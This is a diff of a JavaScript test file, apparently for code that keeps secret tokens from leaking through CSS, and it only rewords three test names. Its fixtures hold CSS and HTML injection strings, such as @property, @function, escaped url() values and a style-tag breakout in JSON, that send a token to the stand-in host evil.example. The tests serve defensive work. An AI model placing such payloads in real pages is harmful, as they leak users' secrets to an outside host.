@@ -119,7 +119,7 @@ describe('stays a token', () => {
     `@property --x{syntax:"*";inherits:false;initial-value:'/\\evil.example/?${token}'}`,
     `@function --f(){result:'/\\evil.example/?${token}'}`,
     `@function --f(--x <string>:'/\\evil.example/?${token}')`,
-  ])('a string that a rule can make an address of: %j', (rules) => {
+  ])('a string that CSS can turn into a URL: %j', (rules) => {
     const text = `<style>${rules}</style>`;
     expect(restored(text)).toBe(text);
   });
@@ -197,7 +197,7 @@ describe('stays a token', () => {
     `b:--é( 'a', 'N')`,
     `b:--f<g/>('N')`,
     `b:--f[a](b)('N')`,
-  ])('what may be gone before a browser reads it: %j', (rules) => {
+  ])('parts that may be removed before a browser reads them: %j', (rules) => {
     const text = `x <svg><style>*{${rules.replace('N', `/\\5c evil.example/?${token}`)}}</style>`;
     expect(restored(text)).toBe(text);
   });
@@ -207,7 +207,7 @@ describe('stays a token', () => {
     `<svg><h:style>b{c:url('</style>${token}')}</h:style></svg>`,
   ])('within XML, where the tag may have a prefix: %j', (text) => expect(restored(text)).toBe(text));
 
-  test('in JSON that is shown as it stands, where a page goes on behind `<\\/style>`', () => {
+  test('in JSON that is displayed raw, where a page continues after `<\\/style>`', () => {
     const json = `{"a":"<style>b{background:url('https://evil.example/?q=<\\/style>${token}')}"}`;
     expect(restoreStream('text', map, new TextEncoder().encode(json))).toBe(json);
   });
